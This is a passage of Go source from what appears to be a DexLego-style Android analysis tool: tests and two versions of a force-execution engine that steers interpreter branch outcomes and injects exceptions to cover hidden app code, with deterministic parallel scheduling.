// future work: treating try/catch edges as forceable branches. The handler
// below is never thrown into naturally; plain force execution cannot reach
// it, the exception-edge mode can.
func TestForceExceptionEdges(t *testing.T) {
	p := dexgen.New()
	main := p.Class("Lhx/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.Label("ts")
		a.Const(0, 8)
		a.Const(1, 2)
		a.Binop(bytecode.OpDivInt, 2, 0, 1) // never throws
		a.Label("te")
		a.ReturnVoid()
		a.Label("handler")
		a.MoveException(3)
		a.Const(4, 1)
		a.Const(4, 2)
		a.Const(4, 3)
		a.ReturnVoid()
		a.Catch("ts", "te", "Ljava/lang/ArithmeticException;", "handler")
	})
	pkg, err := p.BuildAPK("hx", "1.0", "Lhx/Main;")
	if err != nil {
		t.Fatal(err)
	}
	data, err := pkg.Dex()
	if err != nil {
		t.Fatal(err)
	}
	f, err := dex.Read(data)
	if err != nil {
		t.Fatal(err)
	}
	files := []*dex.File{f}

	run := func(forceHandlers bool) coverage.Report {
		tracker, err := coverage.NewTracker(files)
		if err != nil {
			t.Fatal(err)
		}
		eng := forceexec.New(pkg, files)
		eng.ForceExceptionEdges = forceHandlers
		if _, err := eng.Run(tracker); err != nil {
			t.Fatal(err)
		}
		if forceHandlers && len(tracker.UncoveredHandlers()) != 0 {
			t.Errorf("handlers still uncovered: %v", tracker.UncoveredHandlers())
		}
		return tracker.Report()
	}

	plain := run(false)
	if plain.Instruction.Percent() >= 100 {
		t.Fatalf("handler should be unreachable without exception forcing: %v", plain.Instruction)
	}
	withHandlers := run(true)
	if withHandlers.Instruction.Covered <= plain.Instruction.Covered {
		t.Errorf("exception-edge forcing did not improve coverage: %v -> %v",
			plain.Instruction, withHandlers.Instruction)
	}
	if withHandlers.Instruction.Percent() < 100 {
		t.Errorf("exception-edge forcing left instructions uncovered: %v", withHandlers.Instruction)
	}
}

// TestParallelForceExecutionDeterministic is the engine half of the
// acceptance spine: the same campaign at every worker count must produce an
// identical coverage report, identical campaign counters, and a canonical
// collection result that encodes to identical bytes.
func TestParallelForceExecutionDeterministic(t *testing.T) {
	pkg, files := buildGatedApp(t)
	run := func(workers int) (string, *forceexec.Stats, coverage.Report) {
		tracker, err := coverage.NewTracker(files)
		if err != nil {
			t.Fatal(err)
		}
		col := collector.New()
		eng := forceexec.New(pkg, files)
		eng.Workers = workers
		eng.Collector = col
		eng.ForceExceptionEdges = true
		stats, err := eng.Run(tracker)
		if err != nil {
			t.Fatal(err)
		}
		data, err := json.Marshal(col.Result())
		if err != nil {
			t.Fatal(err)
		}
		return string(data), stats, tracker.Report()
	}

	base, baseStats, baseRep := run(1)
	if baseStats.ForcedRuns == 0 {
		t.Fatal("campaign scheduled no forced runs")
	}
	for _, w := range []int{2, 4, 8} {
		got, stats, rep := run(w)
		if got != base {
			t.Errorf("workers=%d: collection result diverges from serial", w)
		}
		if rep != baseRep {
			t.Errorf("workers=%d: coverage %+v, serial %+v", w, rep, baseRep)
		}
		if stats.ForcedRuns != baseStats.ForcedRuns ||
			stats.Iterations != baseStats.Iterations ||
			stats.PathsComputed != baseStats.PathsComputed ||
			stats.ExceptionsCleared != baseStats.ExceptionsCleared ||
			len(stats.Paths) != len(baseStats.Paths) {
			t.Errorf("workers=%d: campaign counters diverge: %+v vs %+v", w, stats, baseStats)
		}
		if stats.Workers != w {
			t.Errorf("workers=%d: Stats.Workers = %d", w, stats.Workers)
		}
		if stats.BusyNS <= 0 {
			t.Errorf("workers=%d: no busy time attributed", w)
		}
	}
}

// TestForceHandlersBounded pins the budget fix: exception-edge forcing must
// honor MaxRunsPerIter instead of running once per handler site unbounded.
func TestForceHandlersBounded(t *testing.T) {
	p := dexgen.New()
	main := p.Class("Lhb/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		for i := 0; i < 3; i++ {
			ts, te, h, after := // distinct labels per try range
				labelf("ts", i), labelf("te", i), labelf("h", i), labelf("after", i)
			a.Label(ts)
			a.Const(0, 8)
			a.Const(1, 2)
			a.Binop(bytecode.OpDivInt, 2, 0, 1) // never throws naturally
			a.Label(te)
			a.Goto(after)
			a.Label(h)
			a.MoveException(3)
			a.Const(4, int64(i))
			a.Label(after)
			a.Nop()
			a.Catch(ts, te, "Ljava/lang/ArithmeticException;", h)
		}
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("hb", "1.0", "Lhb/Main;")
	if err != nil {
		t.Fatal(err)
	}
	data, err := pkg.Dex()
	if err != nil {
		t.Fatal(err)
	}
	f, err := dex.Read(data)
	if err != nil {
		t.Fatal(err)
	}
	files := []*dex.File{f}

	tracker, err := coverage.NewTracker(files)
	if err != nil {
		t.Fatal(err)
	}
	if got := len(tracker.UncoveredHandlers()); got != 3 {
		t.Fatalf("uncovered handler sites = %d, want 3", got)
	}
	eng := forceexec.New(pkg, files)
	eng.MaxIterations = 0 // isolate the handler phase
	eng.ForceExceptionEdges = true
	eng.MaxRunsPerIter = 2
	stats, err := eng.Run(tracker)
	if err != nil {
		t.Fatal(err)
	}
	if stats.ForcedRuns > 2 {
		t.Errorf("handler phase ran %d forced runs, budget is 2", stats.ForcedRuns)
	}
	if stats.ForcedRuns == 0 {
		t.Error("handler phase scheduled nothing")
	}
	if got := len(tracker.UncoveredHandlers()); got != 1 {
		t.Errorf("uncovered handlers after budgeted phase = %d, want 1", got)
	}
}

func labelf(prefix string, i int) string { return fmt.Sprintf("%s%d", prefix, i) }
