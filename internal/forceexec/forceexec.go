// Package forceexec implements the paper's force-execution prototype
// (Section IV-E, Fig. 4): an iterative loop that identifies Uncovered
// Conditional Branches (UCBs) from the previous execution's coverage,
// computes a control-flow path to each UCB, writes the path to a path file,
// and re-executes the application with the interpreter's branch outcomes
// manipulated to follow the path. Unhandled exceptions raised by infeasible
// paths are cleared in the interpreter rather than crashing the run.
package forceexec

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/obs"
)

// PathFile records the branch decisions leading to one UCB, as saved
// between iterations.
type PathFile struct {
	Method    string       `json:"method"`
	TargetPC  int          `json:"targetPC"`
	Taken     bool         `json:"taken"`
	Decisions map[int]bool `json:"decisions"` // branch dex_pc -> forced outcome
}

// Stats summarizes a force-execution campaign.
type Stats struct {
	Iterations        int
	ForcedRuns        int
	PathsComputed     int
	PathsUnreachable  int
	ExceptionsCleared int
	Paths             []PathFile
}

// Engine drives iterative force execution over one application.
type Engine struct {
	Pkg            *apk.APK
	Files          []*dex.File
	InstallNatives func(*art.Runtime)
	// Driver is the "previous execution" (fuzzing, or a plain launch when
	// nil) repeated under forced control flow.
	Driver func(*art.Runtime) error

	MaxIterations  int
	MaxRunsPerIter int
	// ExtraHooks are attached to every runtime (e.g. the DexLego collector).
	ExtraHooks []*art.Hooks
	// ForceExceptionEdges additionally treats try/catch edges as forceable
	// branches: for each uncovered handler, the matching exception is
	// injected inside the try range. This implements the extension the
	// paper leaves as future work for its third coverage-loss category
	// ("instructions in exception handlers").
	ForceExceptionEdges bool
	// Span attributes the engine's trace events (iteration spans, UCB
	// flips, tolerated exceptions) to a reveal stage; nil disables them.
	Span *obs.Span
}

// New returns an engine with the defaults used in the experiments.
func New(pkg *apk.APK, files []*dex.File) *Engine {
	return &Engine{
		Pkg:            pkg,
		Files:          files,
		MaxIterations:  6,
		MaxRunsPerIter: 500,
	}
}

func (e *Engine) driver() func(*art.Runtime) error {
	if e.Driver != nil {
		return e.Driver
	}
	return func(rt *art.Runtime) error {
		_, err := rt.LaunchActivity()
		return err
	}
}

func (e *Engine) newRuntime(tracker *coverage.Tracker, extra ...*art.Hooks) (*art.Runtime, error) {
	rt := art.NewRuntime(art.DefaultPhone())
	if e.InstallNatives != nil {
		e.InstallNatives(rt)
	}
	// Hook order matters: the runtime threads branch outcomes through the
	// hook chain, so forcing hooks (extra) must run before the coverage
	// tracker observes the final decision.
	for _, h := range extra {
		rt.AddHooks(h)
	}
	for _, h := range e.ExtraHooks {
		rt.AddHooks(h)
	}
	rt.AddHooks(tracker.Hooks())
	if err := rt.LoadAPK(e.Pkg); err != nil {
		return nil, err
	}
	return rt, nil
}

// Run executes the baseline driver once, then iterates force execution
// until no new UCBs are resolved.
func (e *Engine) Run(tracker *coverage.Tracker) (*Stats, error) {
	stats := &Stats{}
	rt, err := e.newRuntime(tracker)
	if err != nil {
		return nil, err
	}
	_ = e.driver()(rt) // baseline; crashes are tolerated

	// Path files accumulate across iterations (Fig. 4: each iteration's
	// files feed the next), so a UCB nested behind an earlier UCB becomes
	// reachable once the outer path is on file.
	active := make(map[string]map[int]bool)
	prevCovered := tracker.Report().Instruction.Covered
	attempted := make(map[coverage.UCB]bool)
	for iter := 0; iter < e.MaxIterations; iter++ {
		stats.Iterations++
		iterSpan := e.Span.Start("forceexec.iter")
		ucbs := tracker.UncoveredBranches()
		runs := 0
		for _, ucb := range ucbs {
			if attempted[ucb] || runs >= e.MaxRunsPerIter {
				continue
			}
			attempted[ucb] = true
			path, ok := e.computePath(ucb)
			if !ok {
				stats.PathsUnreachable++
				continue
			}
			stats.PathsComputed++
			stats.Paths = append(stats.Paths, path)
			if active[path.Method] == nil {
				active[path.Method] = make(map[int]bool)
			}
			for pc, taken := range path.Decisions {
				active[path.Method][pc] = taken
			}
			if err := e.forcedRun(tracker, active, path, stats, iter); err != nil {
				continue // infrastructure failure on this path only
			}
			runs++
			stats.ForcedRuns++
		}
		cur := tracker.Report().Instruction.Covered
		iterSpan.End()
		if cur == prevCovered {
			break // no new UCBs were resolved this iteration
		}
		prevCovered = cur
		// Newly covered code exposes new UCBs; allow re-attempting edges
		// that may have become reachable.
		attempted = make(map[coverage.UCB]bool)
	}
	if e.ForceExceptionEdges {
		if err := e.forceHandlers(tracker, active, stats); err != nil {
			return nil, err
		}
	}
	return stats, nil
}

// forceHandlers injects exceptions into uncovered try ranges, steering
// control into their handlers.
func (e *Engine) forceHandlers(tracker *coverage.Tracker, active map[string]map[int]bool, stats *Stats) error {
	for _, site := range tracker.UncoveredHandlers() {
		site := site
		decisions, ok := e.pathTo(site.Method, site.TryStart)
		if !ok {
			stats.PathsUnreachable++
			continue
		}
		path := PathFile{Method: site.Method, TargetPC: site.TryStart, Decisions: decisions}
		stats.PathsComputed++
		stats.Paths = append(stats.Paths, path)
		injectedOnce := false
		inject := &art.Hooks{
			InjectException: func(m *art.Method, pc int) string {
				if injectedOnce || m.Key() != site.Method || pc != site.TryStart {
					return ""
				}
				injectedOnce = true
				return site.Type
			},
		}
		forcing := e.forcingHooks(active, path, stats, stats.Iterations)
		rt, err := e.newRuntime(tracker, inject, forcing)
		if err != nil {
			return err
		}
		_ = e.driver()(rt)
		stats.ForcedRuns++
	}
	return nil
}

// forcingHooks builds the branch-override and exception-tolerance hooks for
// one forced run: all path files on record apply, with the fresh target
// path winning conflicts in its own method. iter tags the run's trace
// events with the campaign iteration that scheduled it.
func (e *Engine) forcingHooks(active map[string]map[int]bool, path PathFile, stats *Stats, iter int) *art.Hooks {
	return &art.Hooks{
		Branch: func(m *art.Method, pc int, in bytecode.Inst, taken bool) (bool, bool) {
			if m.Key() == path.Method {
				if forcedOutcome, ok := path.Decisions[pc]; ok {
					if forcedOutcome != taken && e.Span.Enabled() {
						e.Span.UCBFlip(m.Key(), pc, forcedOutcome, iter)
					}
					return true, forcedOutcome
				}
			}
			if decisions, ok := active[m.Key()]; ok {
				if forcedOutcome, ok := decisions[pc]; ok {
					if forcedOutcome != taken && e.Span.Enabled() {
						e.Span.UCBFlip(m.Key(), pc, forcedOutcome, iter)
					}
					return true, forcedOutcome
				}
			}
			return false, false
		},
		Unhandled: func(m *art.Method, pc int, ex *art.Object) bool {
			stats.ExceptionsCleared++
			if e.Span.Enabled() {
				e.Span.ExceptionTolerated(m.Key(), pc)
			}
			return true
		},
	}
}

// forcedRun executes the driver with branch outcomes manipulated to follow
// all path files on record and unhandled exceptions cleared.
func (e *Engine) forcedRun(tracker *coverage.Tracker, active map[string]map[int]bool, path PathFile, stats *Stats, iter int) error {
	rt, err := e.newRuntime(tracker, e.forcingHooks(active, path, stats, iter))
	if err != nil {
		return err
	}
	_ = e.driver()(rt) // app-level failures are expected on infeasible paths
	return nil
}

// computePath finds branch decisions steering control from the method entry
// to the UCB edge.
func (e *Engine) computePath(ucb coverage.UCB) (PathFile, bool) {
	decisions, ok := e.pathTo(ucb.Method, ucb.PC)
	if !ok {
		return PathFile{}, false
	}
	decisions[ucb.PC] = ucb.Taken
	return PathFile{
		Method:    ucb.Method,
		TargetPC:  ucb.PC,
		Taken:     ucb.Taken,
		Decisions: decisions,
	}, true
}

// pathTo BFS-walks the static CFG from the method entry to targetPC and
// returns the branch decisions along the shortest path.
func (e *Engine) pathTo(method string, targetPC int) (map[int]bool, bool) {
	code := e.findCode(method)
	if code == nil {
		return nil, false
	}
	placed, err := bytecode.DecodeAll(code.Insns)
	if err != nil {
		return nil, false
	}
	idxOf := make(map[int]int, len(placed))
	for i, p := range placed {
		idxOf[p.PC] = i
	}

	type step struct {
		pc       int
		branchPC int // decision made to get here (-1 none)
		taken    bool
		prev     int // index into visited order
	}
	visited := map[int]int{} // pc -> index in order
	order := []step{{pc: 0, branchPC: -1, prev: -1}}
	visited[0] = 0
	for qi := 0; qi < len(order); qi++ {
		cur := order[qi]
		if cur.pc == targetPC {
			// Walk the BFS parent chain, collecting the branch decisions
			// that steered here.
			decisions := map[int]bool{}
			for i := qi; i > 0; i = order[i].prev {
				if order[i].branchPC >= 0 {
					decisions[order[i].branchPC] = order[i].taken
				}
				if order[i].prev < 0 {
					break
				}
			}
			return decisions, true
		}
		ci, ok := idxOf[cur.pc]
		if !ok {
			continue
		}
		in := placed[ci].Inst
		push := func(pc int, branchPC int, taken bool) {
			if _, seen := visited[pc]; seen {
				return
			}
			visited[pc] = len(order)
			order = append(order, step{pc: pc, branchPC: branchPC, taken: taken, prev: qi})
		}
		switch {
		case in.Op.IsBranch():
			push(cur.pc+in.Width(), cur.pc, false)
			push(cur.pc+int(in.Off), cur.pc, true)
		case in.Op.IsGoto():
			push(cur.pc+int(in.Off), -1, false)
		case in.Op.IsSwitch():
			push(cur.pc+in.Width(), -1, false)
			for _, t := range in.Targets {
				push(cur.pc+int(t), -1, false)
			}
		case in.Op.IsTerminator():
		default:
			push(cur.pc+in.Width(), -1, false)
		}
	}
	return nil, false
}

func (e *Engine) findCode(methodKey string) *dex.Code {
	for _, f := range e.Files {
		for ci := range f.Classes {
			cd := &f.Classes[ci]
			for _, list := range [][]dex.EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
				for mi := range list {
					if f.MethodAt(list[mi].Method).Key() == methodKey {
						return list[mi].Code
					}
				}
			}
		}
	}
	return nil
}

// WritePathFiles saves the computed paths, one JSON file per UCB, matching
// the paper's description of path files feeding the next iteration.
func WritePathFiles(dir string, paths []PathFile) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("forceexec: %w", err)
	}
	for i, p := range paths {
		data, err := json.MarshalIndent(p, "", " ")
		if err != nil {
			return fmt.Errorf("forceexec: marshal path: %w", err)
		}
		name := filepath.Join(dir, fmt.Sprintf("path_%04d.json", i))
		if err := os.WriteFile(name, data, 0o644); err != nil {
			return fmt.Errorf("forceexec: %w", err)
		}
	}
	return nil
}
