// Package forceexec implements the paper's force-execution prototype
// (Section IV-E, Fig. 4): an iterative loop that identifies Uncovered
// Conditional Branches (UCBs) from the previous execution's coverage,
// computes a control-flow path to each UCB, writes the path to a path file,
// and re-executes the application with the interpreter's branch outcomes
// manipulated to follow the path. Unhandled exceptions raised by infeasible
// paths are cleared in the interpreter rather than crashing the run.
//
// Forced runs within one iteration are independent — they target distinct
// UCBs and the path-file set is frozen when the iteration starts — so the
// engine schedules them across a Workers-sized pool. Each run owns a fresh
// runtime, a coverage shard, and (when a Collector is attached) a collector
// shard; a barrier at the end of the iteration folds the shards back in
// task order and recomputes the UCB worklist, preserving the paper's
// iteration semantics exactly.
package forceexec

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/obs"
)

// PathFile records the branch decisions leading to one UCB, as saved
// between iterations.
type PathFile struct {
	Method    string       `json:"method"`
	TargetPC  int          `json:"targetPC"`
	Taken     bool         `json:"taken"`
	Decisions map[int]bool `json:"decisions"` // branch dex_pc -> forced outcome
}

// Stats summarizes a force-execution campaign.
type Stats struct {
	Iterations        int
	ForcedRuns        int
	PathsComputed     int
	PathsUnreachable  int
	ExceptionsCleared int
	// Workers is the effective pool size the campaign ran with.
	Workers int
	// BusyNS sums the time workers spent inside forced runs — the stage's
	// aggregate CPU cost, as opposed to its wall time. BusyNS/wall
	// approximates the parallelism the pool achieved.
	BusyNS int64
	Paths  []PathFile
}

// Engine drives iterative force execution over one application.
type Engine struct {
	Pkg            *apk.APK
	Files          []*dex.File
	InstallNatives func(*art.Runtime)
	// Driver is the "previous execution" (fuzzing, or a plain launch when
	// nil) repeated under forced control flow.
	Driver func(*art.Runtime) error

	MaxIterations  int
	MaxRunsPerIter int
	// ExtraHooks are attached to every runtime. With Workers > 1 the hooks
	// must be safe for concurrent use across runtimes; attach a stateful
	// collector through Collector instead, which shards it per run.
	ExtraHooks []*art.Hooks
	// ForceExceptionEdges additionally treats try/catch edges as forceable
	// branches: for each uncovered handler, the matching exception is
	// injected inside the try range. This implements the extension the
	// paper leaves as future work for its third coverage-loss category
	// ("instructions in exception handlers").
	ForceExceptionEdges bool
	// Workers sizes the forced-run pool: 0 selects GOMAXPROCS, 1 forces
	// serial execution. The merged result is byte-identical at any count.
	Workers int
	// Collector, when set, observes the baseline run directly and every
	// forced run through a per-run shard that the iteration barrier merges
	// back (deduplicating trees by fingerprint). The engine canonicalizes
	// the result when the campaign ends, so the collection is independent
	// of worker count and run interleaving.
	Collector *collector.Collector
	// Span attributes the engine's trace events (iteration spans, UCB
	// flips, tolerated exceptions, shard merges) to a reveal stage; nil
	// disables them.
	Span *obs.Span
	// Skip lists method keys served from the incremental method cache:
	// their uncovered branches and handler edges are never scheduled (the
	// cached tree already holds their forced coverage), and every collector
	// shard skips them. Cross-method effects are unaffected — forced runs
	// targeting other methods still execute skipped methods normally, and
	// divergence forks they trigger are detected as skip violations.
	Skip map[string]bool

	// codeIdx indexes method bodies by key (built once in New); cfgs
	// memoizes the per-method BFS over the static CFG. Both are touched
	// only from the serial scheduling phase.
	codeIdx map[string]*dex.Code
	cfgs    map[string]*methodPaths

	// progCache is the campaign-wide predecoded-program cache every worker
	// shard's runtime resolves through, so each distinct method body is
	// lowered once per campaign instead of once per forced run.
	progCache *bytecode.ProgramCache
}

// New returns an engine with the defaults used in the experiments.
func New(pkg *apk.APK, files []*dex.File) *Engine {
	return &Engine{
		Pkg:            pkg,
		Files:          files,
		MaxIterations:  6,
		MaxRunsPerIter: 500,
		codeIdx:        buildCodeIndex(files),
		cfgs:           make(map[string]*methodPaths),
		progCache:      bytecode.NewProgramCache(),
	}
}

func (e *Engine) driver() func(*art.Runtime) error {
	if e.Driver != nil {
		return e.Driver
	}
	return func(rt *art.Runtime) error {
		_, err := rt.LaunchActivity()
		return err
	}
}

// workers resolves the effective pool size.
func (e *Engine) workers() int {
	if e.Workers > 0 {
		return e.Workers
	}
	return runtime.GOMAXPROCS(0)
}

func (e *Engine) newRuntime(tracker *coverage.Tracker, col *collector.Collector, extra ...*art.Hooks) (*art.Runtime, error) {
	rt := art.NewRuntime(art.DefaultPhone())
	if e.progCache != nil {
		rt.SetProgramCache(e.progCache)
	}
	if e.InstallNatives != nil {
		e.InstallNatives(rt)
	}
	// Hook order matters: the runtime threads branch outcomes through the
	// hook chain, so forcing hooks (extra) must run before the coverage
	// tracker observes the final decision.
	for _, h := range extra {
		rt.AddHooks(h)
	}
	if col != nil {
		rt.AddHooks(col.Hooks())
	}
	for _, h := range e.ExtraHooks {
		rt.AddHooks(h)
	}
	rt.AddHooks(tracker.Hooks())
	if err := rt.LoadAPK(e.Pkg); err != nil {
		return nil, err
	}
	return rt, nil
}

// task is one scheduled forced run: its own path, the shards it collects
// into, and the counters the barrier folds back. Tasks never share mutable
// state, so the pool can run them in any interleaving.
type task struct {
	path PathFile
	site *coverage.HandlerSite // non-nil for exception-edge injection runs

	tracker *coverage.Tracker    // per-run coverage shard
	col     *collector.Collector // per-run collector shard, nil when unattached

	cleared int           // unhandled exceptions tolerated in this run
	busy    time.Duration // wall time inside the run (worker CPU attribution)
	err     error         // infrastructure failure; the run is then skipped
}

func (e *Engine) newTask(tracker *coverage.Tracker, path PathFile, site *coverage.HandlerSite) *task {
	t := &task{path: path, site: site, tracker: tracker.Shard()}
	if e.Collector != nil {
		t.col = collector.New()
		if e.Skip != nil {
			// Shards honor the same skip list as the main collector, so the
			// cached/fresh tree partition survives the iteration barrier.
			t.col.SetSkip(e.Skip)
		}
	}
	return t
}

// Run executes the baseline driver once, then iterates force execution
// until no new UCBs are resolved.
func (e *Engine) Run(tracker *coverage.Tracker) (*Stats, error) {
	stats := &Stats{Workers: e.workers()}
	rt, err := e.newRuntime(tracker, e.Collector)
	if err != nil {
		return nil, err
	}
	_ = e.driver()(rt) // baseline; crashes are tolerated

	// Path files accumulate across iterations (Fig. 4: each iteration's
	// files feed the next), so a UCB nested behind an earlier UCB becomes
	// reachable once the outer path is on file. Within an iteration the
	// set is frozen — runs target distinct UCBs and see only the previous
	// iterations' files plus their own path, which is what makes them
	// order-independent and safe to run concurrently.
	active := make(map[string]map[int]bool)
	prevCovered := tracker.Report().Instruction.Covered
	attempted := make(map[coverage.UCB]bool)
	for iter := 0; iter < e.MaxIterations; iter++ {
		stats.Iterations++
		iterSpan := e.Span.Start("forceexec.iter")
		ucbs := tracker.UncoveredBranches()
		// Scheduling is serial: path computation pins the task list and its
		// order before any run starts, so the merged outcome cannot depend
		// on pool timing.
		var tasks []*task
		for _, ucb := range ucbs {
			if e.Skip[ucb.Method] {
				continue // served from the method cache; no run needed
			}
			if attempted[ucb] || len(tasks) >= e.MaxRunsPerIter {
				continue
			}
			attempted[ucb] = true
			path, ok := e.computePath(ucb)
			if !ok {
				stats.PathsUnreachable++
				continue
			}
			stats.PathsComputed++
			stats.Paths = append(stats.Paths, path)
			tasks = append(tasks, e.newTask(tracker, path, nil))
		}
		e.runTasks(iterSpan, tasks, active, iter)
		e.mergeTasks(iterSpan, tracker, tasks, stats, iter)
		// The barrier has passed: fold this iteration's paths into the
		// active set for the next one, in task order.
		for _, t := range tasks {
			if active[t.path.Method] == nil {
				active[t.path.Method] = make(map[int]bool)
			}
			for pc, taken := range t.path.Decisions {
				active[t.path.Method][pc] = taken
			}
		}
		cur := tracker.Report().Instruction.Covered
		iterSpan.End()
		if cur == prevCovered {
			break // no new UCBs were resolved this iteration
		}
		prevCovered = cur
		// Newly covered code exposes new UCBs; allow re-attempting edges
		// that may have become reachable.
		attempted = make(map[coverage.UCB]bool)
	}
	if e.ForceExceptionEdges {
		e.forceHandlers(tracker, active, stats)
	}
	if e.Collector != nil {
		// Impose the history-independent record order; see Result.Canonicalize.
		e.Collector.Result().Canonicalize()
	}
	return stats, nil
}

// forceHandlers injects exceptions into uncovered try ranges, steering
// control into their handlers. It is one extra pool iteration: the same
// MaxRunsPerIter budget bounds it, and its runs land in Stats exactly like
// the main loop's.
func (e *Engine) forceHandlers(tracker *coverage.Tracker, active map[string]map[int]bool, stats *Stats) {
	span := e.Span.Start("forceexec.handlers")
	defer span.End()
	var tasks []*task
	for _, site := range tracker.UncoveredHandlers() {
		if e.Skip[site.Method] {
			continue // served from the method cache; no injection needed
		}
		if len(tasks) >= e.MaxRunsPerIter {
			break // same per-iteration budget as branch forcing
		}
		decisions, ok := e.pathTo(site.Method, site.TryStart)
		if !ok {
			stats.PathsUnreachable++
			continue
		}
		path := PathFile{Method: site.Method, TargetPC: site.TryStart, Decisions: decisions}
		stats.PathsComputed++
		stats.Paths = append(stats.Paths, path)
		site := site
		tasks = append(tasks, e.newTask(tracker, path, &site))
	}
	e.runTasks(span, tasks, active, stats.Iterations)
	e.mergeTasks(span, tracker, tasks, stats, stats.Iterations)
}

// runTasks executes the iteration's tasks across the worker pool. active is
// read-only until every task has finished; per-worker child spans attribute
// the runs they carried.
func (e *Engine) runTasks(parent *obs.Span, tasks []*task, active map[string]map[int]bool, iter int) {
	if len(tasks) == 0 {
		return
	}
	workers := min(e.workers(), len(tasks))
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			span := parent.Start("forceexec.worker")
			defer span.End()
			for {
				ti := int(next.Add(1)) - 1
				if ti >= len(tasks) {
					return
				}
				e.runTask(tasks[ti], active, iter, span)
			}
		}()
	}
	wg.Wait()
}

// runTask performs one forced run against the task's own shards.
func (e *Engine) runTask(t *task, active map[string]map[int]bool, iter int, span *obs.Span) {
	start := time.Now()
	defer func() { t.busy = time.Since(start) }()
	var extra []*art.Hooks
	if t.site != nil {
		injected := false
		site := t.site
		extra = append(extra, &art.Hooks{
			InjectException: func(m *art.Method, pc int) string {
				if injected || m.Key() != site.Method || pc != site.TryStart {
					return ""
				}
				injected = true
				return site.Type
			},
		})
	}
	extra = append(extra, e.forcingHooks(active, t.path, &t.cleared, iter, span))
	rt, err := e.newRuntime(t.tracker, t.col, extra...)
	if err != nil {
		t.err = err // infrastructure failure on this path only
		return
	}
	_ = e.driver()(rt) // app-level failures are expected on infeasible paths
}

// mergeTasks is the iteration barrier: shards fold back in task order —
// coverage unions, collection trees dedup by fingerprint — and the
// campaign counters accumulate. Failed tasks contribute nothing.
func (e *Engine) mergeTasks(span *obs.Span, tracker *coverage.Tracker, tasks []*task, stats *Stats, iter int) {
	for ti, t := range tasks {
		if t.err != nil {
			continue
		}
		tracker.Merge(t.tracker)
		if t.col != nil {
			st := e.Collector.Result().Merge(t.col.Result())
			e.Collector.AbsorbSkipState(t.col)
			if span.Enabled() {
				span.WorkerMerge(ti, iter, st.TreesOffered, st.TreesKept)
			}
		}
		stats.ExceptionsCleared += t.cleared
		stats.BusyNS += int64(t.busy)
		stats.ForcedRuns++
	}
}

// forcingHooks builds the branch-override and exception-tolerance hooks for
// one forced run: all path files on record apply, with the fresh target
// path winning conflicts in its own method. iter tags the run's trace
// events with the campaign iteration that scheduled it; cleared counts
// tolerated exceptions without sharing state across concurrent runs.
func (e *Engine) forcingHooks(active map[string]map[int]bool, path PathFile, cleared *int, iter int, span *obs.Span) *art.Hooks {
	return &art.Hooks{
		Branch: func(m *art.Method, pc int, in bytecode.Inst, taken bool) (bool, bool) {
			if m.Key() == path.Method {
				if forcedOutcome, ok := path.Decisions[pc]; ok {
					if forcedOutcome != taken && span.Enabled() {
						span.UCBFlip(m.Key(), pc, forcedOutcome, iter)
					}
					return true, forcedOutcome
				}
			}
			if decisions, ok := active[m.Key()]; ok {
				if forcedOutcome, ok := decisions[pc]; ok {
					if forcedOutcome != taken && span.Enabled() {
						span.UCBFlip(m.Key(), pc, forcedOutcome, iter)
					}
					return true, forcedOutcome
				}
			}
			return false, false
		},
		Unhandled: func(m *art.Method, pc int, ex *art.Object) bool {
			*cleared++
			if span.Enabled() {
				span.ExceptionTolerated(m.Key(), pc)
			}
			return true
		},
	}
}

// computePath finds branch decisions steering control from the method entry
// to the UCB edge.
func (e *Engine) computePath(ucb coverage.UCB) (PathFile, bool) {
	decisions, ok := e.pathTo(ucb.Method, ucb.PC)
	if !ok {
		return PathFile{}, false
	}
	decisions[ucb.PC] = ucb.Taken
	return PathFile{
		Method:    ucb.Method,
		TargetPC:  ucb.PC,
		Taken:     ucb.Taken,
		Decisions: decisions,
	}, true
}

// pathStep is one BFS visit: the decision that reached this pc and the
// parent link to walk the chain back to the entry.
type pathStep struct {
	pc       int
	branchPC int // decision made to get here (-1 none)
	taken    bool
	prev     int // index into the BFS order
}

// methodPaths memoizes one full BFS over a method's static CFG: shortest
// decision chains from the entry to every reachable pc. Computing it once
// per method amortizes what used to be a fresh BFS per UCB per iteration.
type methodPaths struct {
	visited map[int]int // pc -> index into order
	order   []pathStep
}

// pathTo returns the branch decisions steering control from the method
// entry to targetPC, from the memoized per-method BFS. Only the serial
// scheduling phase may call it — the caches are unsynchronized.
func (e *Engine) pathTo(method string, targetPC int) (map[int]bool, bool) {
	if e.codeIdx == nil {
		e.codeIdx = buildCodeIndex(e.Files) // Engine built without New
	}
	if e.cfgs == nil {
		e.cfgs = make(map[string]*methodPaths)
	}
	mp, ok := e.cfgs[method]
	if !ok {
		if code := e.codeIdx[method]; code != nil {
			mp = buildPaths(code)
		}
		e.cfgs[method] = mp // negative results memoize too
	}
	if mp == nil {
		return nil, false
	}
	qi, ok := mp.visited[targetPC]
	if !ok {
		return nil, false
	}
	// Walk the BFS parent chain, collecting the branch decisions that
	// steered here.
	decisions := map[int]bool{}
	for i := qi; i > 0; i = mp.order[i].prev {
		if mp.order[i].branchPC >= 0 {
			decisions[mp.order[i].branchPC] = mp.order[i].taken
		}
		if mp.order[i].prev < 0 {
			break
		}
	}
	return decisions, true
}

// buildPaths BFS-walks the static CFG from the method entry, recording the
// shortest decision chain to every reachable pc.
func buildPaths(code *dex.Code) *methodPaths {
